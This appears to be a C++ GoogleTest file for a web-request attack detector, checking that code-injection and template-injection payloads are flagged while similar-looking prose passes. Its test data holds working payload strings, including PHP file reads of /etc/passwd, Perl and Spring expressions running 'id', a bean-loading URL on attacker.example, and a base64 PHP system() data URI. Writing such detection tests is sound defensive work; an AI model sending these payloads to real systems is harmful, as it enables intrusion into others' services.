// Code injection across interpreters: PHP calls hidden by comment gaps, extension families
// and ssh2 wrappers, Perl "@{[ ]}" interpolation, one-line server-side JS probes; and the
// benign text that looks similar.
#include <gtest/gtest.h>

#include "libs/detect/test_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::InspectQueryValue;

class InterpreterCode : public ::testing::TestWithParam<const char*> {};
TEST_P(InterpreterCode, IsBlockedAsCodeInjection) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
  EXPECT_TRUE(HasCategory(v, Category::kCodeInjection)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, InterpreterCode,
    ::testing::Values(
        // A comment between a name and its parenthesis.
        "checkdate/*x*/()", "serialize#c\n()", "range /*a*/ (1,2)",
        "I don't like gzuncompress/*comment*/()", "x=1; file_get_contents /**/ ('/etc/passwd')",
        // PHP-only extension families and ssh2 stream wrappers.
        "ldap_get_entries()", "pg_enter_pipeline_mode (", "tidy_parse_string($x)",
        "ssh2.sftp://user:pw@example.com:22/etc/passwd",
        // Perl interpolation of an expression.
        "@{[ `id` ]}", "@{[qx{whoami}]}", "@{ [ open F,'|ls' ] }", "@{[$x][system('id')]}",
        // A Java serialization stream in base64 at each byte alignment, whole or inside a
        // value's base64 run.
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "KztAAU", "Cs7QAF", "AKztAAVzcgAXamF2YS51",
        "AACs7QAFc3IAF2phdmE",
        // Spring XML contexts loading bean definitions from a URL; WebLogic packages.
        "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext("
        "'http://example.com/x.xml')",
        "new ClassPathXmlApplicationContext('http://attacker.example/b.xml')",
        // A one-line server-side JS probe ended by a newline.
        "console.info(1)\n",
        // A plain-text or PHP data: URI as the whole value (include without "//").
        "data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
        "data:text/plain,<?php phpinfo();?>",
        // Python imports of process and network modules where a statement starts.
        "import os", "1;import socket", "\"; import subprocess; x=\"", "x = 1\nimport os.path",
        "if True: import os",
        // Calls and walks that the prose look-alikes below stop short of.
        "java.Runtime", "x.__class__.__mro__", "assert()", "createobject(\"wscript.shell\")"));

class InterpreterLikeBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(InterpreterLikeBenign, IsAllowed) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Text, InterpreterLikeBenign,
    ::testing::Values(
        // Hashtags and comments near parentheses in prose, Markdown and e-mail.
        "we won #1 (again)", "see item #3 (below)", "files (s) and // notes (x)",
        "the file /* see note */ (draft) is attached", "the range /* approx */ (1-2 km) is fine",
        "in C: n = printf /* debug */ (\"%d\", n);", "pg_ratings are (mostly) good",
        "@{team} [all] welcome", "@{[]}", "mail me @{[name]",
        // Console text in a sentence, ssh URLs.
        "console.log is where the output goes\nthen check it", "ssh://git@example.com/repo.git",
        "Привет (мир) #тест",
        // Image data URIs and prose about data URIs.
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "use a data:text/plain URI for small files",
        // Base64 and words holding the letters of a serialization header in another case
        // or deep inside random base64 (images, tokens), and Perl-like index text.
        "KZTAAU", "cs7qaf", "the ztaau river",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJrO0ABXNyAAAADUlEQVR42mNk", "tokenXYZ12s7QAFqq",
        "@{[x][y] later",
        // "import" in a sentence, and longer module names that start like a risky one.
        "we import oscilloscopes from Germany", "We import sockets and plugs",
        "please don't import os here", "import osmnx as ox", "import socketio",
        "import subprocess_tee",
        // Release notes and documentation naming packages, functions and attributes.
        "Java utility classes like java.io. Classes in this package are standard",
        "These two new assert()s make the code error out",
        "because sleep() is used in some libtests.", "`createObject()` allocates a new object",
        "compile() returns data passed back into the corresponding execute() function",
        "Use GObject.__class__ instead of GObjectMeta"));

class TemplateControl : public ::testing::TestWithParam<const char*> {};
TEST_P(TemplateControl, IsBlockedAsSsti) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
  EXPECT_TRUE(HasCategory(v, Category::kSsti)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(Payloads, TemplateControl,
                         ::testing::Values("<% if True %>49<% endif %>",
                                           "<%= if 7 > 3 %>yes<% end %>",
                                           "<% for x in range(3) %>a<% endfor %>"));

TEST(TemplateInline, DoubleBracketsAreAnExpressionOnlyAroundOne) {
  for (const char* attack : {"[[${7*7}]]", "[[7*7]]", "[[*{T(java.lang.Runtime)}]]",
                             "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]"}) {
    Verdict v = InspectQueryValue(attack);
    EXPECT_TRUE(Flagged(v)) << attack << " -> " << v.explanation;
  }
  // Markdown and wiki links, POSIX classes and the shell's test command in release notes.
  for (const char* text :
       {"raise exception on non-supported platforms [[#129](https://github.com/a/b/issues/129)]",
        "operators to the `[[' command (ASCII collating and strcmp(3))",
        "[[:punct:]b] in a class item (UCP mode)", "see [[Main Page]] (the wiki home)"}) {
    Verdict v = InspectQueryValue(text);
    EXPECT_FALSE(Flagged(v)) << text << " -> " << v.explanation;
  }
}

// Control statements over plain names are what a template editor saves (an e-mail template
// in an admin form); a constant condition that prints a marker is the probe for evaluation.
TEST(TemplateControl, StatementsOverPlainNamesAreAuthoring) {
  for (const char* text : {"{% if user %}Hi {{ user }}{% endif %}",
                           "{% for item in items %}{{ item.name }}{% endfor %}"}) {
    Verdict v = testing::InspectAsJson(text);
    EXPECT_FALSE(Flagged(v)) << text << " -> " << v.explanation;
  }
  for (const char* probe : {"{% if True %}49{% endif %}", "{% if 1 %}x{% endif %}",
                            "{% include 'header.html' %}", "{% set x = 1 %}"}) {
    Verdict v = testing::InspectAsJson(probe);
    EXPECT_TRUE(HasCategory(v, Category::kSsti) && Flagged(v)) << probe << " -> " << v.explanation;
  }
}

TEST(TemplateControl, PercentSignsInProseAreAllowed) {
  for (const char* text : {"values <%10 if any, else >%90 %> done", "50% if paid early",
                           "<%= if it were only that simple"}) {
    Verdict v = InspectQueryValue(text);
    EXPECT_FALSE(Flagged(v)) << text << " -> " << v.explanation;
  }
}

}  // namespace
}  // namespace shieldx::detect
